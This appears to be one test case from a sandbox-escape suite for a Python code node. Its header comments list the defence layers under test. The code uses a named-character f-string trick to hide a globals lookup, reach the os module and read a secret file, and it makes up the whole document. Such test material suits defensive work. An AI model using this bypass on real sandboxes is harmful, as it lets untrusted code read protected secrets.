# class: parser differentials
# technique: a named character whose braces are no field
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
f"\N{LEFT CURLY BRACKET}{(g := quit.__init__.__globals__) and 1}\N{RIGHT CURLY BRACKET}"
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
